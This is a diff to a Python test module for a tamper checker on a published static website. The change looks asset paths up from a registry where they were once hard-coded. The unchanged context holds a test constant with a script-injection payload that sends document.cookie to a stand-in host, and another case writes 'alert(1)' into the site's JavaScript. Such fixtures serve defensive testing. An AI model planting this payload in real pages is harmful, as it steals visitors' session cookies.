@@ -2,6 +2,7 @@
 
 from tests.published import spoiling as make
 from tests.published.spoiling import Altered
+from trangxa.render.assets import assets
 
 NEWS = "tin-tuc/2026/11/duong-hoa.html"
 OLD_NEWS = "tin-tuc/2026/10/ra-quan.html"
@@ -10,6 +11,7 @@ OFFICIAL = "can-bo/bich.html"
 PROJECT = "du-an/du-an-1.html"
 PDF = "van-ban/2026/tep/a.pdf"
 PICTURE = "di-san/anh/dinh.2.jpg"
+SHEET, PROGRAM = (assets()[name].url for name in ("trangxa.css", "trangxa.js"))
 
 
 _EVIL = '<script>fetch("//la.example/"+document.cookie)</script>'
@@ -51,10 +53,8 @@ OF_PAGES = (
     Altered("tep-bi-go", make.removed(PDF), "missing-file", DOCUMENT),
     Altered("tep-bi-thay", make.added(PDF, b"%PDF-1.4 khac"), "published-altered-file", PDF),
     Altered("anh-bi-go", make.removed(PICTURE), "missing-file", "di-san/dinh.html"),
-    Altered("kieu-dang-bi-go", make.removed("assets/trangxa.css"), "published-missing-file", "assets/trangxa.css"),
-    Altered(
-        "ma-lenh-bi-thay", make.added("assets/trangxa.js", b"alert(1)"), "published-altered-file", "assets/trangxa.js"
-    ),
+    Altered("kieu-dang-bi-go", make.removed(SHEET), "published-missing-file", SHEET),
+    Altered("ma-lenh-bi-thay", make.added(PROGRAM, b"alert(1)"), "published-altered-file", PROGRAM),
     Altered(
         "lien-ket-gay",
         make.edited(NEWS, "2026/10/ra-quan.html", "2026/10/khong-co.html"),
